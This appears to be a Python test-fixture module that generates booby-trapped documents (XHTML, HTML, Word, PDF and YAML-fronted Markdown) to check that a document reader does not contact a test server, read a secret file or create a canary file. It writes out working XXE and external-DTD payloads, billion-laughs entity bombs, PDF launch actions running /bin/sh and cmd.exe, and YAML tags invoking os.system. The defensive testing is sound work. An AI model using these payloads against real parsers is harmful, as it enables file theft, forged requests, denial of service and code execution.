"""Files that ask to be followed: each names addresses, files or programs that nobody may touch.

``site`` is the address of a server that must see no request, ``secret`` a file whose content must
not come into an article, ``canary`` a file that must not be made.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.sources.examples import HEADLINE, PARAGRAPHS, pdf_file
from tests.sources.promises import MAIN_PART, word_parts

_TEXT = "".join(f"<p>{text}</p>" for text in PARAGRAPHS)
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Lures:
    """What the files point at."""

    site: str
    secret: Path
    canary: Path


Bait = Callable[[Lures], bytes]


def _entities(lures: Lures) -> str:
    return (
        f'<!ENTITY secret SYSTEM "{lures.secret.as_uri()}">'
        f'<!ENTITY remote SYSTEM "{lures.site}/entity">'
        f'<!ENTITY % dtd SYSTEM "{lures.site}/parameter.dtd"> %dtd;'
    )


def _laughs(levels: int = 12) -> str:
    return '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, levels)
    )


def xhtml_entities(lures: Lures) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE html [{_entities(lures)}]>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>{HEADLINE}</title></head>'
        f"<body><article><h1>{HEADLINE}</h1>{_TEXT}<p>Read on: &secret; &remote;.</p>"
        "</article></body></html>"
    ).encode()


def xhtml_laughs(_: Lures) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE html [{_laughs()}]><html><body><article>'
        f"<h1>{HEADLINE}</h1>{_TEXT}<p>They said: &lol11;.</p></article></body></html>"
    ).encode()


def html_references(lures: Lures) -> bytes:
    site = lures.site
    return (
        f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{site}/strict.dtd">'
        f'<?xml-stylesheet href="{site}/x.xsl" type="text/xsl"?><html><head>'
        f'<base href="{site}/"><meta http-equiv="refresh" content="0;url={site}/refresh">'
        f'<link rel="stylesheet" href="{site}/a.css"><link rel="canonical" href="{site}/article">'
        f'<meta property="og:url" content="{site}/og"><meta property="og:image" '
        f'content="{site}/og.png"><script src="{site}/a.js"></script><title>{HEADLINE}</title>'
        f'</head><body background="{site}/b.png"><article><h1>{HEADLINE}</h1>{_TEXT}'
        f'<img src="{site}/c.png" srcset="{site}/d.png 2x"><iframe src="{site}/frame"></iframe>'
        f'<object data="{site}/o"></object><embed src="{site}/e"><video src="{site}/v"></video>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{lures.secret.as_uri()}" '
        f'parse="text"/><svg><use href="{site}/u.svg#a"/></svg></article></body></html>'
    ).encode()


def _word(changed: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**word_parts(), **changed}.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _with_doctype(part: bytes, inside: str, reference: str) -> bytes:
    """Put a document type before a part's root, and an entity at the end of its first text."""
    head, _, rest = part.partition(b"?>")
    root = rest.lstrip().split(None, 1)[0][1:].decode()
    doctype = f"<!DOCTYPE {root} {inside}>".encode()
    closing = b"</w:t>" if b"</w:t>" in rest else b"</dc:creator>"
    return head + b"?>" + doctype + rest.replace(closing, reference.encode() + closing, 1)


def word_entities(lures: Lures) -> bytes:
    part = word_parts()[MAIN_PART]
    return _word({MAIN_PART: _with_doctype(part, f"[{_entities(lures)}]", "&secret; &remote;")})


def word_outer_dtd(lures: Lures) -> bytes:
    part = word_parts()[MAIN_PART]
    return _word({MAIN_PART: _with_doctype(part, f'SYSTEM "{lures.site}/word.dtd"', "")})


def word_laughs(_: Lures) -> bytes:
    part = word_parts()[MAIN_PART]
    return _word({MAIN_PART: _with_doctype(part, f"[{_laughs()}]", "&lol11;")})


def word_properties(lures: Lures) -> bytes:
    name = "docProps/core.xml"
    part = word_parts()[name]
    return _word({name: _with_doctype(part, f"[{_entities(lures)}]", "&secret;")})


def word_relations(lures: Lures) -> bytes:
    """Remote template, picture, linked part and a field that asks for a file."""
    kinds = ("attachedTemplate", "image", "aFChunk", "subDocument", "oleObject", "frame")
    outer = "".join(
        f'<Relationship Id="rIdOut{number}" Type="{_OFFICE}/{kind}" '
        f'Target="{lures.site}/{kind}" TargetMode="External"/>'
        for number, kind in enumerate(kinds)
    ).encode()
    relations = "word/_rels/document.xml.rels"
    settings = f'<Relationships xmlns="{_RELATIONS}">'.encode() + outer + b"</Relationships>"
    body = (
        f'<w:altChunk r:id="rIdOut2" xmlns:r="{_OFFICE}"/><w:subDoc r:id="rIdOut3" '
        f'xmlns:r="{_OFFICE}"/><w:p><w:fldSimple w:instr=\'INCLUDETEXT "{lures.site}/x"\'>'
        f"<w:r><w:t>field</w:t></w:r></w:fldSimple></w:p><w:sectPr"
    ).encode()
    parts = word_parts()
    return _word(
        {
            MAIN_PART: parts[MAIN_PART].replace(b"<w:sectPr", body, 1),
            relations: parts[relations].replace(b"</Relationships>", outer + b"</Relationships>"),
            "word/_rels/settings.xml.rels": settings,
        }
    )


def pdf_actions(lures: Lures) -> bytes:
    """Actions on opening, on each page and in a link: address, program, script, form, file."""
    site = lures.site
    actions = (
        f"<< /S /URI /URI ({site}/uri) >>",
        f"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> /P (-c 'touch {lures.canary}') >>",
        f"<< /S /JavaScript /JS (app.launchURL('{site}/js'); this.submitForm('{site}/form');) >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({site}/submit) >> >>",
        f"<< /S /GoToR /F << /FS /URL /F ({site}/other.pdf) >> /D [0 /Fit] >>",
        f"<< /S /ImportData /F << /FS /URL /F ({site}/data.fdf) >> >>",
    )
    chain = actions[-1]
    for action in reversed(actions[:-1]):
        chain = action[:-2] + f"/Next {chain} >>"
    link = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 900] /A {chain} >>]"
    return _pdf(
        (b"/Type /Catalog", f"/Type /Catalog /OpenAction {chain}".encode()),
        (b"/Type /Page ", f"/Type /Page /AA << /O {chain} >> {link} ".encode()),
    )


def _pdf(*changes: tuple[bytes, bytes]) -> bytes:
    """Return the example with other objects; the table of their places is left to be mended."""
    data = pdf_file().data
    for old, new in changes:
        assert old in data
        data = data.replace(old, new)
    return data


def markdown_tags(lures: Lures) -> bytes:
    body = "\n\n".join(PARAGRAPHS)
    return (
        f"---\ntitle: {HEADLINE}\n"
        f'author: !!python/object/apply:os.system ["touch {lures.canary}"]\n'
        f'outlet: !!python/object/new:subprocess.Popen [["touch", "{lures.canary}"]]\n'
        f"url: !include {lures.secret}\nlaughs: &a [x, x]\nmore: &b [*a, *a, *a]\n---\n\n"
        f"{body}\n\n![picture]({lures.site}/p.png) <img src={lures.site}/q.png>\n"
    ).encode()


BAITS: dict[str, Bait] = {
    "entities.xhtml": xhtml_entities,
    "laughs.xhtml": xhtml_laughs,
    "references.html": html_references,
    "entities.docx": word_entities,
    "dtd.docx": word_outer_dtd,
    "laughs.docx": word_laughs,
    "properties.docx": word_properties,
    "relations.docx": word_relations,
    "actions.pdf": pdf_actions,
    "tags.md": markdown_tags,
}
"""By the name of the file."""
